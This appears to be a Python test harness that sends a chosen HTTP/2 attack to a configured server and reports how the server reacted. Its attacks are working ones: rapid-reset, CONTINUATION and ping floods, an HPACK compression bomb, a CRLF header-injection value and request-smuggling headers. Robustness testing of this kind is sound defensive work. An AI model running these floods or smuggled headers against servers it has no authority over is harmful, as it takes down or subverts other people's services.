"""Frames of HTTP/2 that are wrong, or far too many, by their name. Prints what became of them: `goaway CODE`,
`reset CODE`, `status CODE`, `closed`, `held` if the other side took no more, or `survived` if it took them all."""
import json
import struct
import sys
import time

import hpack
from hyperframe.frame import Frame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

from connect import arguments, connect, context

options = arguments(__doc__, name="")
GET = [(":method", "GET"), (":scheme", "https"), (":authority", options.server), (":path", "/headers")]
POST = [(":method", "POST"), *GET[1:3], (":path", "/digest")]
HANDSHAKE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()
MANY = 200_000
BARRIER = b"barrier!"


def raw(kind, flags, stream, payload):
    """A frame of which nothing is checked."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def fields(*headers):
    """Without a name that `hpack` would change, and outside of the table."""
    return b"".join(
        b"\0" + bytes([len(name)]) + name.encode("latin-1") + bytes([len(value)]) + value.encode("latin-1")
        for name, value in headers
    )


def headers(stream, *all, end_stream=True, end_headers=True):
    return raw(1, end_stream | end_headers << 2, stream, fields(*all))


def data(stream, payload=b"", end_stream=False):
    return raw(0, end_stream, stream, payload)


def settings(*pairs):
    return raw(4, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


def flood(frame, count=MANY):
    """Many in one piece, and piece after piece."""
    for _ in range(count // 500):
        yield frame * 500


def continuation_flood():
    yield headers(1, *GET, end_headers=False)
    yield from flood(raw(9, 0, 1, fields(("x", "y" * 100))), MANY // 10)


def empty_continuation_flood():
    yield headers(1, *GET, end_headers=False)
    yield from flood(raw(9, 0, 1, b""))


def rapid_reset():
    for at in range(1000):
        yield headers(2 * at + 1, *GET) + raw(3, 0, 2 * at + 1, struct.pack(">I", 8))


def empty_data_flood():
    yield headers(1, *POST, end_stream=False)
    yield from flood(data(1))


def padding_flood():
    yield headers(1, *POST, end_stream=False)
    yield from flood(raw(0, 8, 1, b"\x00"), MANY)


def window_update_flood():
    yield headers(1, *POST, end_stream=False)
    yield from flood(raw(8, 0, 1, struct.pack(">I", 1)))


def too_many_streams():
    for at in range(150):
        yield headers(2 * at + 1, *POST, end_stream=False)


def compression_bomb():
    # One long header in the table, and then ten thousand references to it.
    long = b"\x40\x01x" + b"\x7f\x81\x1e" + b"y" * (127 + 1 + (30 << 7))
    yield raw(1, 5, 1, fields(*GET) + long + b"\xbe" * 10_000)


def beyond_the_window():
    yield headers(1, *POST, end_stream=False)
    yield from [data(1, bytes(16_384))] * 640


def malformed(*more, of=GET, body=None):
    yield headers(1, *of, *more, end_stream=body is None)
    if body is not None:
        yield data(1, body, True)


ATTACKS = {
    "oversized_frame": lambda: [headers(1, *POST, end_stream=False), data(1, bytes((1 << 24) - 1))],
    "data_on_stream_0": lambda: [data(0, b"x")],
    "headers_on_stream_0": lambda: [headers(0, *GET)],
    "headers_on_an_even_stream": lambda: [headers(2, *GET)],
    "headers_after_the_end_of_the_stream": lambda: [headers(1, *GET), headers(1, *GET)],
    "data_after_the_end_of_the_stream": lambda: [headers(1, *GET), data(1, b"x")],
    "data_on_an_idle_stream": lambda: [data(1, b"x")],
    "a_lower_stream_after_a_higher_one": lambda: [headers(5, *GET), headers(3, *GET)],
    "reset_of_an_idle_stream": lambda: [raw(3, 0, 7, struct.pack(">I", 8))],
    "continuation_without_headers": lambda: [raw(9, 4, 1, fields(*GET))],
    "data_between_headers_and_continuation": lambda: [
        headers(1, *GET, end_headers=False), data(1, b"x"), raw(9, 4, 1, b"")
    ],
    "padding_longer_than_its_frame": lambda: [headers(1, *POST, end_stream=False), raw(0, 9, 1, b"\xffxyz")],
    "push_promise_of_a_client": lambda: [raw(5, 4, 1, struct.pack(">I", 2) + fields(*GET))],
    "settings_of_half_a_pair": lambda: [raw(4, 0, 0, b"abc")],
    "settings_on_a_stream": lambda: [raw(4, 0, 1, b"")],
    "settings_window_too_large": lambda: [settings((4, 1 << 31))],
    "settings_push_neither_0_nor_1": lambda: [settings((2, 2))],
    "settings_frames_too_small": lambda: [settings((5, 100))],
    "ping_of_seven_bytes": lambda: [raw(6, 0, 0, b"1234567")],
    "window_update_of_zero": lambda: [headers(1, *POST, end_stream=False), raw(8, 0, 1, bytes(4))],
    "window_overflow_of_the_connection": lambda: [raw(8, 0, 0, struct.pack(">I", (1 << 31) - 1))],
    "window_overflow_of_a_stream": lambda: [
        headers(1, *POST, end_stream=False), raw(8, 0, 1, struct.pack(">I", (1 << 31) - 1))
    ],
    "window_overflow_by_settings": lambda: [
        headers(1, *POST, end_stream=False), raw(8, 0, 1, struct.pack(">I", (1 << 31) - 65_536)), settings((4, 1 << 20))
    ],
    "data_beyond_the_window": beyond_the_window,
    "a_preface_that_is_none": lambda: [b"x" * 100],
    "no_headers": lambda: [raw(1, 5, 1, b"")],
    "a_header_without_name": lambda: malformed(("", "x")),
    "an_uppercase_header": lambda: malformed(("X-Upper", "x")),
    "a_header_with_a_line_break": lambda: malformed(("x-a", "b\r\nx-forwarded-client-cert: evil")),
    "a_header_with_nul": lambda: malformed(("x-a", "b\0c")),
    "a_name_with_a_colon": lambda: malformed(("x-a:b", "c")),
    "a_name_with_a_space": lambda: malformed(("x-a b", "c")),
    "connection": lambda: malformed(("connection", "close")),
    "keep_alive": lambda: malformed(("keep-alive", "timeout=5")),
    "proxy_connection": lambda: malformed(("proxy-connection", "keep-alive")),
    "transfer_encoding": lambda: malformed(("transfer-encoding", "chunked"), of=POST, body=b"0\r\n\r\n"),
    "upgrade": lambda: malformed(("upgrade", "h2c")),
    "te_other_than_trailers": lambda: malformed(("te", "gzip")),
    "two_paths": lambda: malformed((":path", "/other")),
    "two_methods": lambda: malformed((":method", "POST")),
    "two_authorities": lambda: malformed((":authority", "evil")),
    "a_host_beside_another_authority": lambda: malformed(("host", "evil")),
    "an_authority_with_user_information": lambda: malformed(of=[*GET[:2], (":authority", "user@payments"), GET[3]]),
    "a_host_with_a_space": lambda: malformed(("host", "a b"), of=[*GET[:2], GET[3]]),
    "an_empty_path": lambda: malformed(of=[*GET[:3], (":path", "")]),
    "a_path_without_slash": lambda: malformed(of=[*GET[:3], (":path", "headers")]),
    "no_method": lambda: malformed(of=GET[1:]),
    "no_path": lambda: malformed(of=GET[:3]),
    "a_status_in_a_request": lambda: malformed((":status", "200")),
    "an_unknown_pseudo_header": lambda: malformed((":evil", "1")),
    "a_pseudo_header_at_the_end": lambda: malformed(of=[*GET[:3], ("x-a", "b"), GET[3]]),
    "connect_with_a_path": lambda: malformed(of=[(":method", "CONNECT"), *GET[1:]]),
    "a_protocol_without_connect": lambda: malformed((":protocol", "websocket")),
    "less_than_the_content_length": lambda: malformed(("content-length", "10"), of=POST, body=b"five!"),
    "more_than_the_content_length": lambda: malformed(("content-length", "2"), of=POST, body=b"five!"),
    "two_content_lengths": lambda: malformed(("content-length", "5"), ("content-length", "50"), of=POST, body=b"five!"),
    "one_content_length_twice": lambda: malformed(("content-length", "5"), ("content-length", "5"), of=POST, body=b"five!"),
    "a_content_length_with_a_sign": lambda: malformed(("content-length", "+5"), of=POST, body=b"five!"),
    "a_content_length_without_a_body": lambda: malformed(("content-length", "10"), of=POST),
    "pseudo_headers_in_trailers": lambda: [
        headers(1, *POST, end_stream=False), data(1, b"x"), headers(1, (":path", "/other"))
    ],
    "trailers_that_do_not_end": lambda: [
        headers(1, *POST, end_stream=False), data(1, b"x"), headers(1, ("x-a", "b"), end_stream=False)
    ],
    "garbage_for_headers": lambda: [raw(1, 5, 1, b"\xff\xff\xff\xff\xff\xff\xff\xff")],
    "a_header_beyond_the_table": lambda: [raw(1, 5, 1, b"\xff\x80\x01")],
    "a_table_beyond_its_limit": lambda: [raw(1, 5, 1, b"\x3f\xe1\xff\x7f" + fields(*GET))],
    "compression_bomb": compression_bomb,
    "continuation_flood": continuation_flood,
    "empty_continuation_flood": empty_continuation_flood,
    "rapid_reset": rapid_reset,
    # More answers than the sockets between the two have room for.
    "settings_flood": lambda: flood(settings((4, 65_535)), 10 * MANY),
    "ping_flood": lambda: flood(raw(6, 0, 0, b"12345678"), 5 * MANY),
    "answers_to_pings_that_were_never_sent": lambda: [raw(6, 1, 0, b"whatever") * 50],
    "empty_data_flood": empty_data_flood,
    "padding_flood": padding_flood,
    "window_update_flood": window_update_flood,
    "priority_flood": lambda: flood(raw(2, 0, 1, struct.pack(">IB", 3, 16))),
    "unknown_frame_flood": lambda: flood(raw(200, 0, 0, b"whatever")),
    "too_many_streams": too_many_streams,
}


class Seen:
    """What comes back, until it is clear what became of it all."""

    def __init__(self, sock):
        self.sock, self.rest, self.decoder = sock, b"", hpack.Decoder()
        self.goaway, self.resets, self.statuses, self.closed, self.barrier = None, [], [], False, False

    def clear(self):
        return self.goaway is not None or self.resets or self.closed

    def take(self, timeout):
        self.sock.settimeout(timeout)
        try:
            part = self.sock.recv(1 << 16)
        except TimeoutError:
            return
        except OSError:
            part = b""
        if not part:
            self.closed = True
        self.rest += part
        while len(self.rest) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.rest[:9]))
            if len(self.rest) < 9 + length:
                break
            frame.parse_body(memoryview(self.rest[9 : 9 + length]))
            self.rest = self.rest[9 + length :]
            self.on(frame)

    def on(self, frame):
        match frame:
            case GoAwayFrame():
                self.goaway = frame.error_code
            case RstStreamFrame():
                self.resets.append(frame.error_code)
            case HeadersFrame():
                decoded = dict(self.decoder.decode(frame.data))
                if ":status" in decoded:
                    self.statuses.append(int(decoded[":status"]))
            case PingFrame() if frame.opaque_data == BARRIER:
                self.barrier = True

    def outcome(self, held):
        if self.goaway is not None:
            return f"goaway {self.goaway}"
        if self.resets:
            return f"reset {max(self.resets)}"
        if any(status >= 400 for status in self.statuses):
            return f"status {max(self.statuses)}"
        return "closed" if self.closed else "held" if held else "survived"


def main():
    tls = context(options)
    if tls:
        tls.set_alpn_protocols(["h2"])
    sock = connect(options, tls)
    seen, held, sent = Seen(sock), False, 0
    attack = ATTACKS[options.name]()
    if options.name != "a_preface_that_is_none":
        sock.sendall(HANDSHAKE)
    # Not reading is part of a flood. So a side that has to say something for each frame may hold this one up.
    sock.settimeout(2)
    try:
        for piece in attack:
            sock.sendall(piece)
            sent += len(piece)
        sock.sendall(raw(6, 0, 0, BARRIER))
    except TimeoutError:
        held = True
    except OSError:
        pass
    quiet = time.monotonic() + 2
    while not seen.clear() and time.monotonic() < quiet:
        before = len(seen.statuses)
        seen.take(0.1)
        if seen.barrier and any(status >= 400 for status in seen.statuses):
            break
    print(json.dumps({"outcome": seen.outcome(held), "sent": sent, "statuses": sorted(set(seen.statuses))}), flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    main()
